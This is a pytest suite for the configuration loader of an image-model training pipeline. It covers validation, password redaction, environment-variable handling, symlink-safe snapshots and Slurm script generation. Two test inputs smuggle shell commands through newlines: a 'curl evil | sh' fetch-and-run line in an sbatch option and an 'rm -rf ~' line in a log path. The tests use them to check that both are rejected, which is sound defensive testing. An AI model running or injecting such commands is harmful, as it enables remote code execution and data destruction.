import socket
import time
from pathlib import Path

import pytest
import yaml

from flows.steps import STEPS
from kiln_config import (
    PROJECT_DIR,
    ConfigError,
    HealthCheckRun,
    PipelineConfig,
    SlurmConfig,
    config_hash,
    load_config,
    load_yaml_model,
    redact_uri,
    stable_hash,
    write_snapshot,
)
from kiln_config.runs import write_run_file
from tasks.launch.slurm import SlurmRejected, job_script

REPO = Path(__file__).resolve().parents[2]


def test_tiny_and_sd2_presets_load():
    tiny = load_config(REPO / "configs" / "tiny.yaml")
    assert [s.resolution for s in tiny.train.stages] == [32, 48, 64]
    assert tiny.registry.model_name == "kiln-t2i"
    assert tiny.tracking_uri == f"sqlite:///{Path(tiny.storage.root) / 'mlflow.db'}"
    assert Path(tiny.launch.accelerate_config).is_file()
    sd2 = load_config(REPO / "configs" / "sd2-base.yaml")
    assert [s.resolution for s in sd2.train.stages] == [256, 512, 1024]
    unet = sd2.train.model.unet
    assert unet["block_out_channels"] == [320, 640, 1280, 1280]
    assert unet["attention_head_dim"] == [5, 10, 20, 20]
    assert unet["cross_attention_dim"] == 1024 and unet["use_linear_projection"] is True
    assert sd2.train.model.vae.pretrained == "stabilityai/stable-diffusion-2-base"
    assert sd2.train.model.vae.subfolder == "vae"
    assert sd2.quality.min_aesthetic == 4.5 and sd2.ingest.layout == "auto"


def test_defaults_from_minimal_config(tmp_path):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    minimal = {"train": cfg["train"], "evaluate": {"prompts_csv": "p.csv"}}
    (tmp_path / "c.yaml").write_text(yaml.safe_dump(minimal))
    loaded = load_config(tmp_path / "c.yaml")
    assert loaded.storage.root == str(tmp_path / "kiln-data"), "beside the config, not the cwd"
    assert loaded.registry.model_name == "kiln-t2i"
    assert isinstance(loaded, PipelineConfig)


@pytest.mark.parametrize(
    ("dotted", "value", "expect"),
    [
        ("quality.max_reject_fraction", 1.5, "quality.max_reject_fraction"),
        ("train.stages.1.batch_size", 0, "train.stages.1.batch_size"),
        ("shards.jpeg_quality", "high", "shards.jpeg_quality"),
        ("registry.colour", "red", "registry.colour"),
        ("ingest.layout", "zip", "ingest.layout"),
        ("ingest.metadata_columns", ["license", "sha256"], "catalog columns"),
        ("ingest.compact_every", -1, "ingest.compact_every"),
        ("ingest.compact_every", "often", "ingest.compact_every"),
        ("ingest.compact_retain_hours", -2.5, "ingest.compact_retain_hours"),
        ("quality.max_caption_chars", 0, "quality.max_caption_chars"),
        ("quality.near_duplicate_distance", 40, "quality.near_duplicate_distance"),
        ("shards.bucket_stages", [32, 99], "shards.bucket_stages"),
        ("shards.remote", "gs://bucket/kiln", "shards.remote"),
        ("shards.remote", "s3:///kiln", "shards.remote"),
        ("train.model.noise_scheduler.prediction_type", "epsilon", "needs prediction_type"),
        # Each becomes an #SBATCH line: a newline would add a shell line to the batch script.
        ("launch.slurm.sbatch_lines", ["--exclusive\ncurl evil | sh"], "launch.slurm.sbatch_lines"),
        ("launch.slurm.partition", "gpu\rx", "launch.slurm.partition"),
        ("launch.slurm.account", "team\x00", "launch.slurm.account"),
    ],
)
def test_bad_value_names_field_and_value(tmp_path, dotted, value, expect):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    node = cfg
    *parents, leaf = dotted.split(".")
    for p in parents:
        node = node[int(p)] if p.isdigit() else node.setdefault(p, {})
    node[leaf] = value
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
    with pytest.raises(ConfigError) as e:
        load_config(tmp_path / "bad.yaml")
    assert expect in str(e.value)
    assert repr(value) in str(e.value)


def test_stage_resolutions_must_increase(tmp_path):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    cfg["train"]["stages"][1]["resolution"] = 16
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
    with pytest.raises(ConfigError, match="strictly increase"):
        load_config(tmp_path / "bad.yaml")


def test_aspect_buckets_default_to_the_largest_stage_and_fit_the_step(tmp_path):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    cfg["shards"].update(aspect_buckets=True, bucket_step=8)
    (tmp_path / "ok.yaml").write_text(yaml.safe_dump(cfg))
    assert load_config(tmp_path / "ok.yaml").bucket_stages() == [64]
    cfg["shards"].update(bucket_step=48)
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
    with pytest.raises(ConfigError, match="shards.bucket_step: stage 64px is not a multiple"):
        load_config(tmp_path / "bad.yaml")


def test_missing_and_malformed_files(tmp_path):
    with pytest.raises(ConfigError, match="not found"):
        load_config(tmp_path / "nope.yaml")
    (tmp_path / "list.yaml").write_text("- 1\n- 2\n")
    with pytest.raises(ConfigError, match="mapping"):
        load_config(tmp_path / "list.yaml")


def test_overrides(tmp_path):
    cfg = load_config(REPO / "configs" / "tiny.yaml", root=str(tmp_path / "r"), source="s3://b/p")
    assert cfg.storage.root == str(tmp_path / "r")
    assert cfg.ingest.source == "s3://b/p"
    assert cfg.shards.cache_dir == str(tmp_path / "r" / "cache"), "the cache follows the root"


def test_mix_proportions_must_leave_a_share(tmp_path):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    cfg["train"]["mix"] = [
        {"dataset_version": "ds-a", "proportion": 0.6},
        {"dataset_version": "ds-b", "proportion": 0.5},
    ]
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
    with pytest.raises(ConfigError, match="proportions sum to 1.1"):
        load_config(tmp_path / "bad.yaml")


def test_relative_paths_resolve_against_the_config_folder_from_any_cwd(tmp_path, monkeypatch):
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    cfg["storage"]["root"] = "data"
    cfg["ingest"]["source"] = "../images"
    cfg["evaluate"]["prompts_csv"] = "prompts.csv"
    cfg["launch"]["accelerate_config"] = "configs/accelerate/single.yaml"  # bundled
    cfg["registry"]["tracking_uri"] = "sqlite:///data/mlflow.db"
    cfg.setdefault("human_eval", {})["database_url"] = "sqlite:///ratings.db"
    (tmp_path / "elsewhere").mkdir()
    path = tmp_path / "elsewhere" / "tiny.yaml"
    path.write_text(yaml.safe_dump(cfg))
    (tmp_path / "elsewhere" / "prompts.csv").write_text("Prompts,Category\na,b\n")
    loaded = []
    for cwd in (tmp_path, REPO, tmp_path / "elsewhere"):
        monkeypatch.chdir(cwd)
        loaded.append(load_config(path))
    assert loaded[0] == loaded[1] == loaded[2]
    c = loaded[0]
    assert c.storage.root == str(tmp_path / "elsewhere" / "data")
    assert c.shards.cache_dir == str(tmp_path / "elsewhere" / "data" / "cache")
    assert c.ingest.source == str(tmp_path / "images")
    assert c.evaluate.prompts_csv == str(tmp_path / "elsewhere" / "prompts.csv")
    assert c.launch.accelerate_config == str(PROJECT_DIR / "configs/accelerate/single.yaml")
    assert c.tracking_uri == f"sqlite:///{tmp_path / 'elsewhere' / 'data' / 'mlflow.db'}"
    assert c.human_eval.database_url == f"sqlite:///{tmp_path / 'elsewhere' / 'ratings.db'}"
    # A command-line override is the user's own path: relative to the working directory.
    monkeypatch.chdir(tmp_path)
    assert load_config(path, root="r").storage.root == str(tmp_path / "r")


def test_a_snapshot_loads_to_the_same_config_from_anywhere(tmp_path, monkeypatch):
    cfg = load_config(REPO / "configs" / "tiny.yaml", root=str(tmp_path / "r"), source="s3://b/p")
    snap = write_snapshot(cfg, tmp_path / "run" / "config.yaml")
    monkeypatch.chdir(tmp_path)
    again = load_config(snap)
    assert again == cfg and config_hash(again) == config_hash(cfg)
    assert yaml.safe_load(snap.read_text())["storage"]["root"] == str(tmp_path / "r")
    assert config_hash(cfg) == stable_hash(yaml.safe_load(snap.read_text()), 16)
    # It keeps the config's credentials in clear, so that it loads back: its owner's alone.
    assert snap.stat().st_mode & 0o777 == 0o600


def test_a_snapshot_is_written_through_no_planted_link(tmp_path):
    """Another user of the run's folder plants a link at every temporary name Kiln used to
    take (`.config.yaml.<pid>.tmp`) and at the snapshot itself: the file the links point at
    is untouched, the snapshot is a new owner-only file, and no temporary file is left."""
    import os

    cfg = load_config(REPO / "configs" / "tiny.yaml", root=str(tmp_path / "r"))
    run = tmp_path / "run"
    run.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    for pid in range(os.getpid() - 5, os.getpid() + 5):
        (run / f".config.yaml.{pid}.tmp").symlink_to(victim)
    (run / "config.yaml").symlink_to(victim)
    snap = write_snapshot(cfg, run / "config.yaml")
    assert victim.read_text() == "keep"
    assert not snap.is_symlink() and snap.stat().st_mode & 0o777 == 0o600
    assert load_config(snap) == cfg
    assert sorted(p.name for p in run.iterdir() if not p.is_symlink()) == ["config.yaml"]


def test_redact_uri_masks_only_the_password():
    assert redact_uri("postgresql://kiln:s3cret@db:5432/mlflow") == (
        "postgresql://kiln:***@db:5432/mlflow"
    )
    assert redact_uri("sqlite:////tmp/kiln/mlflow.db") == "sqlite:////tmp/kiln/mlflow.db"
    assert redact_uri("http://tracking:5000") == "http://tracking:5000"
    assert redact_uri("https://t0ken@mlflow.internal/") == "https://***@mlflow.internal/"
    assert redact_uri("postgresql://kiln@db/mlflow") == "postgresql://kiln@db/mlflow"
    assert redact_uri("postgresql://kiln:pw@db:notaport/m") == "postgresql://kiln:***@db:notaport/m"
    assert redact_uri("postgresql://kiln:p@ss@[::1]:5432/m") == "postgresql://kiln:***@[::1]:5432/m"
    assert redact_uri("postgresql://db/m?user=kiln&password=s3cret&sslmode=require") == (
        "postgresql://db/m?user=kiln&password=***&sslmode=require"
    )
    assert redact_uri("https://h/api?token=t0k&x=1") == "https://h/api?token=***&x=1"


@pytest.mark.parametrize("password", ["pa/ss", "pa#ss", "pa?ss", "p@ss", "a/b#c?d@e"])
def test_redact_uri_masks_a_password_that_holds_url_delimiters(password):
    """SQLAlchemy's own parser takes `/`, `#` and `?` in a password unencoded; a user may write
    `@` too. The mask runs to the last `@`, so none of it shows."""
    from sqlalchemy.engine import make_url

    uri = f"postgresql+psycopg://kiln:{password}@db.internal:5432/ratings"
    if "@" not in password:
        assert make_url(uri).password == password, "SQLAlchemy connects with this password"
    shown = redact_uri(uri)
    assert shown == "postgresql+psycopg://kiln:***@db.internal:5432/ratings"
    assert redact_uri(f"mysql://kiln:{password}@db/m?sslpassword=x") == (
        "mysql://kiln:***@db/m?sslpassword=***"
    )


def test_env_references_only_in_fields_that_take_a_secret_or_a_path(tmp_path, monkeypatch):
    """`${NAME}` in a field that is shown unmasked (a pod's environment, an sbatch line, a
    prompt) is refused in one line naming the field; the variable's value is never shown."""
    monkeypatch.setenv("TEAM_TOKEN", "s3cret-t0ken")
    tiny = REPO / "configs" / "tiny.yaml"
    for field, value in [
        ("launch:\n  kubernetes:\n    env:\n      HF_TOKEN", "${TEAM_TOKEN}"),
        ("launch:\n  slurm:\n    sbatch_lines", '["#SBATCH --comment=${TEAM_TOKEN}"]'),
        ("registry:\n  model_name", "kiln-${TEAM_TOKEN:-x}"),
    ]:
        path = tmp_path / "c.yaml"
        path.write_text(f"base: {tiny}\n{field}: {value}\n")
        with pytest.raises(ConfigError) as e:
            load_config(path)
        msg = str(e.value)
        assert len(msg.splitlines()) == 1 and "s3cret" not in msg, msg
        assert "only in the fields that take a secret or a path" in msg
        assert field.replace(":\n", ".").replace(" ", "") in msg, msg


def test_an_empty_variable_is_an_error_unless_its_default_is_asked_for(tmp_path, monkeypatch):
    """An empty `${NAME}` would otherwise fall back to the field's default: a local SQLite
    registry instead of the team's server."""
    path = tmp_path / "c.yaml"
    path.write_text(
        f"base: {REPO / 'configs' / 'tiny.yaml'}\nregistry:\n  tracking_uri: ${{KILN_T}}\n"
    )
    monkeypatch.setenv("KILN_T", "")
    with pytest.raises(ConfigError) as e:
        load_config(path)
    assert "registry.tracking_uri: the environment variable KILN_T is empty" in str(e.value)
    path.write_text(path.read_text().replace("${KILN_T}", "${KILN_T:-}"))
    assert load_config(path).registry.tracking_uri is None, "`:-` asks for the default"


def test_a_snapshot_and_a_run_file_load_without_expanding_again(tmp_path, monkeypatch):
    """A password that holds `${...}` is expanded once, from the user's config; the run's
    snapshot and its launched processes' run files read it back as it is, with or without
    the variable in their environment."""

    secret = "postgresql://kiln:pa${HOME}ss@db/ratings"
    monkeypatch.setenv("KILN_DB", secret)
    path = tmp_path / "c.yaml"
    path.write_text(
        f"base: {REPO / 'configs' / 'tiny.yaml'}\nhuman_eval:\n  database_url: ${{KILN_DB}}\n"
    )
    cfg = load_config(path, root=str(tmp_path / "r"))
    assert cfg.human_eval.database_url == secret
    snap = write_snapshot(cfg, tmp_path / "run" / "config.yaml")
    monkeypatch.delenv("KILN_DB")
    again = load_config(snap)
    assert again.human_eval.database_url == secret and config_hash(again) == config_hash(cfg)
    run = write_run_file(HealthCheckRun(out_dir="/x/${HOME}"), tmp_path / "health.yaml")
    assert load_yaml_model(HealthCheckRun, run).out_dir == "/x/${HOME}"


def test_a_config_error_never_prints_a_secret(tmp_path):
    """A misspelt key holding a database URL, or a credential field with a bad value: the
    error line names the field, never the password."""
    path = tmp_path / "c.yaml"
    path.write_text(
        f"base: {REPO / 'configs' / 'tiny.yaml'}\n"
        "human_eval:\n  databse_url: postgresql://kiln:s3cret-pw@db.internal/ratings\n"
        "registry:\n  tracking_uri: https://mlflow.internal/?password=s3cret-pw\n"
        "  secret_token: s3cret-pw\n"
    )
    with pytest.raises(ConfigError) as e:
        load_config(path)
    assert "s3cret-pw" not in str(e.value)
    assert "human_eval.databse_url: Extra inputs are not permitted (received " in str(e.value)
    assert "'postgresql://kiln:***@db.internal/ratings'" in str(e.value)
    assert "registry.secret_token: Extra inputs are not permitted (received a value, not " in (
        str(e.value)
    )


def test_env_references_fill_credentials_and_name_what_is_missing(tmp_path, monkeypatch):
    """The shipped configs/team.yaml: every service from the environment, none in the file;
    a missing variable names its field; `${NAME:-}` left empty leaves the field unset."""
    secret = "postgresql+psycopg://kiln:s3cret-pw@db.internal/ratings"
    env = {
        "KILN_ROOT": str(tmp_path / "root"),
        "KILN_SOURCE": "s3://team-bucket/images",
        "MLFLOW_TRACKING_URI": "http://mlflow.internal:5000",
        "KILN_RATINGS_DATABASE_URL": secret,
    }
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("KILN_S3_ENDPOINT_URL", raising=False)
    team = REPO / "configs" / "team.yaml"
    assert "s3cret" not in team.read_text()
    cfg = load_config(team)
    assert cfg.storage.root == env["KILN_ROOT"] and cfg.ingest.source == env["KILN_SOURCE"]
    assert cfg.tracking_uri == env["MLFLOW_TRACKING_URI"]
    assert cfg.human_eval.database_url == secret
    assert cfg.storage.endpoint_url is None, "an empty ${NAME:-} leaves the default"
    assert "s3cret-pw" not in cfg.model_dump_json(), "dumps mask the password"
    monkeypatch.setenv("KILN_S3_ENDPOINT_URL", "http://127.0.0.1:9000")
    assert load_config(team).storage.endpoint_url == "http://127.0.0.1:9000"

    monkeypatch.delenv("KILN_RATINGS_DATABASE_URL")
    with pytest.raises(ConfigError) as e:
        load_config(team)
    assert "human_eval.database_url: the environment variable KILN_RATINGS_DATABASE_URL is not" in (
        str(e.value)
    )


# -- check_inputs: every input a step needs, checked before any flow starts -------------------


def _checked(tmp_path, make_config, demo_src, steps, source=None, **overrides):
    """check_inputs of the table's `steps` (flows/steps.py) on a tiny config: returns the
    ConfigError's lines ([] when it passes)."""
    from tasks.inputs import check_inputs

    path = make_config(tmp_path / "c.yaml", tmp_path / "root", source or demo_src, **overrides)
    try:
        check_inputs(load_config(path), [c for step in steps for c in STEPS[step].checks])
    except ConfigError as e:
        return str(e).splitlines()
    return []


def test_check_inputs_passes_for_the_tiny_config(tmp_path, make_config, demo_src):
    assert _checked(tmp_path, make_config, demo_src, ("pipeline",)) == []
    assert not (tmp_path / "root").exists(), "the checks create nothing"


@pytest.mark.parametrize(
    ("make_source", "expect"),
    [
        (lambda t: t / "nope", "nope does not exist (pass --source or set ingest.source)"),
        (lambda t: (t / "empty").mkdir() or t / "empty", "empty holds no files"),
        (
            lambda t: (t / "a.tar").write_bytes(b"x") and t / "a.tar",
            "a.tar is a file, not a folder",
        ),
        (lambda t: "gs://bucket/images", "unsupported storage URI scheme 'gs'"),
    ],
)
def test_source_must_be_a_folder_with_files(tmp_path, make_config, demo_src, make_source, expect):
    lines = _checked(tmp_path, make_config, demo_src, ("ingest",), source=make_source(tmp_path))
    assert len(lines) == 1 and lines[0].startswith("ingest.source: ") and expect in lines[0]


def test_s3_source_is_probed_through_moto(tmp_path, make_config, demo_src, s3_bucket, s3_endpoint):
    bucket, client = s3_bucket
    client.put_object(Bucket=bucket, Key="images/a.jpg", Body=b"x")
    ok = {"storage.endpoint_url": s3_endpoint}

    def check(uri, **over):
        return _checked(tmp_path, make_config, demo_src, ("ingest",), source=uri, **over)

    assert check(f"s3://{bucket}/images", **ok) == []
    (empty,) = check(f"s3://{bucket}/imgs", **ok)  # a typo in the prefix lists nothing
    assert f"s3://{bucket}/imgs holds no files" in empty
    (missing,) = check("s3://no-such-bucket-kiln/images", **ok)
    assert "cannot list s3://no-such-bucket-kiln/images (NoSuchBucket" in missing
    assert "storage.endpoint_url" in missing
    with socket.socket() as s:  # a port nothing listens on: refused at once
        s.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{s.getsockname()[1]}"
    t0 = time.monotonic()
    (refused,) = check(f"s3://{bucket}/images", **{"storage.endpoint_url": dead})
    assert "EndpointConnectionError" in refused and time.monotonic() - t0 < 10


def test_missing_topology_names_the_field(tmp_path, make_config, demo_src):
    missing = tmp_path / "no-topology.yaml"
    (line,) = _checked(
        tmp_path, make_config, demo_src, ("train",), **{"launch.accelerate_config": str(missing)}
    )
    assert line.startswith(f"launch.accelerate_config: file not found (received '{missing}')")


def test_tracking_folder_of_each_uri_kind(tmp_path, monkeypatch):
    from tasks.inputs import tracking_folder

    monkeypatch.chdir(tmp_path)
    assert tracking_folder("sqlite:////srv/kiln/mlflow.db") == Path("/srv/kiln")
    assert tracking_folder("sqlite:///rel/mlflow.db") == Path("rel")
    assert tracking_folder("file:///srv/mlruns") == Path("/srv/mlruns")
    assert tracking_folder("./mlruns") == Path("mlruns")
    for server in ("http://mlflow:5000", "https://x", "postgresql://u:p@db/m", "databricks"):
        assert tracking_folder(server) is None


def test_tracking_folder_must_be_writable(tmp_path, make_config, demo_src):
    (tmp_path / "afile").write_text("not a folder")

    def check(uri):
        return _checked(
            tmp_path, make_config, demo_src, ("register",), **{"registry.tracking_uri": uri}
        )

    assert check(f"sqlite:///{tmp_path}/new/deeper/mlflow.db") == [], "can be created"
    assert not (tmp_path / "new").exists(), "nothing is created by the check"
    (under_file,) = check(f"sqlite:///{tmp_path}/afile/sub/mlflow.db")
    assert f"registry.tracking_uri: {tmp_path / 'afile'} is a file, not a folder" in under_file
    (read_only,) = check("sqlite:////sys/kiln/mlflow.db")  # read-only even for root
    assert "registry.tracking_uri: /sys is not writable" in read_only
    assert not list(tmp_path.glob(".kiln-write-check-*")), "the write check cleans up"


def test_tracking_server_must_answer(tmp_path, make_config, demo_src):
    import http.server
    import threading

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:  # any HTTP answer, even 501, means the server is there
        uri = f"http://127.0.0.1:{server.server_address[1]}"
        assert (
            _checked(tmp_path, make_config, demo_src, ("train",), **{"registry.tracking_uri": uri})
            == []
        )
    finally:
        server.shutdown()
        server.server_close()
    (line,) = _checked(
        tmp_path, make_config, demo_src, ("train",), **{"registry.tracking_uri": uri}
    )
    assert line.startswith(f"registry.tracking_uri: the MLflow server at {uri} does not answer")


def test_every_local_failure_is_reported_at_once(tmp_path, make_config, demo_src):
    lines = _checked(
        tmp_path,
        make_config,
        demo_src,
        ("ingest", "train", "evaluate"),
        source=tmp_path / "x",
        **{
            "launch.accelerate_config": str(tmp_path / "t.yaml"),
            "registry.tracking_uri": "sqlite:////sys/kiln/mlflow.db",
            "evaluate.prompts_csv": str(tmp_path / "p.csv"),
        },
    )
    fields = [ln.split(":")[0] for ln in lines]
    assert fields == ["ingest.source", "launch.accelerate_config", "registry.tracking_uri"]


def test_missing_prompts_file_is_a_config_error(tmp_path, make_config, demo_src):
    (line,) = _checked(
        tmp_path,
        make_config,
        demo_src,
        ("evaluate",),
        **{"evaluate.prompts_csv": str(tmp_path / "p.csv")},
    )
    assert line == f"evaluate.prompts_csv: file not found: {tmp_path / 'p.csv'}"


def test_unset_source_says_how_to_set_it(tmp_path, make_config, demo_src):
    from tasks.inputs import check_inputs

    cfg = load_config(make_config(tmp_path / "c.yaml", tmp_path / "root", demo_src))
    cfg.ingest.source = None
    with pytest.raises(ConfigError) as e:
        check_inputs(cfg, ("source",))
    assert str(e.value) == "ingest.source: not set (pass --source or set ingest.source)"


def test_run_config_reuses_a_config_equal_to_the_snapshot(tmp_path, make_config, demo_src):
    """The pipeline passes on the config its training run wrote: not parsed again. Another
    config gives way to the run's snapshot, which is parsed."""
    from kiln_config import run_config

    cfg = load_config(make_config(tmp_path / "c.yaml", tmp_path / "root", demo_src))
    snap = write_snapshot(cfg, tmp_path / "root" / "runs" / "run-1" / "config.yaml")
    assert run_config(cfg, snap) is cfg
    edited = cfg.model_copy(update={"evaluate": cfg.evaluate.model_copy(update={"seeds": [7]})})
    kept = run_config(edited, snap)
    assert kept is not edited and kept.evaluate.seeds == cfg.evaluate.seeds
    assert config_hash(kept) == config_hash(cfg)


def test_load_checked_applies_overrides_and_checks_the_inputs(tmp_path, make_config, demo_src):
    from tasks.inputs import load_checked

    path = make_config(tmp_path / "c.yaml", tmp_path / "root", demo_src)
    cfg = load_checked(str(path), ("source",), root=str(tmp_path / "other"))
    assert cfg.storage.root == str(tmp_path / "other")
    with pytest.raises(ConfigError, match="ingest.source: "):
        load_checked(str(path), ("source",), source=str(tmp_path / "no-such-folder"))


def test_checking_the_prompts_leaves_the_config_as_given(
    tmp_path, make_config, demo_src, monkeypatch
):
    """The probe reads; the resolved file is returned, and set by the caller on a copy."""
    from tasks.inputs import check_inputs, prompts_file, with_prompts

    drawbench = tmp_path / "drawbench.csv"
    drawbench.write_text("Prompts,Category\na red circle,Colors\n")
    monkeypatch.setenv("KILN_DRAWBENCH_CSV", str(drawbench))
    path = make_config(
        tmp_path / "c.yaml", tmp_path / "root", demo_src, **{"evaluate.prompts_csv": None}
    )
    cfg = load_config(path)
    before = cfg.model_dump()
    check_inputs(cfg, ("topology", "prompts"))
    assert cfg.model_dump() == before and cfg.evaluate.prompts_csv is None
    assert prompts_file(cfg) == str(drawbench)
    resolved = with_prompts(cfg)
    assert resolved.evaluate.prompts_csv == str(drawbench)
    assert cfg.evaluate.prompts_csv is None, "the given config stays as given"


@pytest.mark.parametrize(
    ("launch", "canonical", "expect"),
    [
        (
            {},
            None,
            "train.stages.1.num_machines: 2 nodes need a cluster backend; set "
            "launch.backend: slurm or kubernetes (received local)",
        ),
        (
            {"backend": "slurm"},
            3,
            "train.stages.1.num_machines: 2 nodes neither divide nor are "
            "a multiple of train.num_canonical_nodes (3)",
        ),
        ({"backend": "kubernetes"}, None, "launch.kubernetes.image: the kubernetes backend"),
    ],
)
def test_node_counts_need_a_cluster_and_a_fitting_sample_order(tmp_path, launch, canonical, expect):
    """Each message names its field once, without the whole section as 'received'."""
    cfg = yaml.safe_load((REPO / "configs" / "tiny.yaml").read_text())
    cfg["train"]["stages"][1]["num_machines"] = 2
    cfg["train"]["num_canonical_nodes"] = canonical
    cfg["launch"] |= launch
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
    with pytest.raises(ConfigError) as e:
        load_config(tmp_path / "bad.yaml")
    line = str(e.value).splitlines()[1].strip()
    assert line.startswith(expect) and "(received {" not in line, line
    cfg["launch"] = {"backend": "slurm"}
    cfg["train"]["num_canonical_nodes"] = 4
    (tmp_path / "good.yaml").write_text(yaml.safe_dump(cfg))
    assert load_config(tmp_path / "good.yaml").train.canonical_nodes() == 4


def test_the_batch_script_refuses_a_control_character_the_config_could_not_see(tmp_path):
    """A log path under a root whose name holds a newline: the script is not written."""

    kw = {"nodes": 1, "processes_per_machine": 1, "name": "s0", "workdir": str(tmp_path)}
    exclusive = SlurmConfig(sbatch_lines=["--exclusive"])
    ok = job_script(["-m", "x"], slurm=exclusive, log=tmp_path, **kw)
    assert "#SBATCH --exclusive\n" in ok
    with pytest.raises(SlurmRejected, match="control character"):
        job_script(["-m", "x"], slurm=SlurmConfig(), log=tmp_path / "a\nrm -rf ~", **kw)
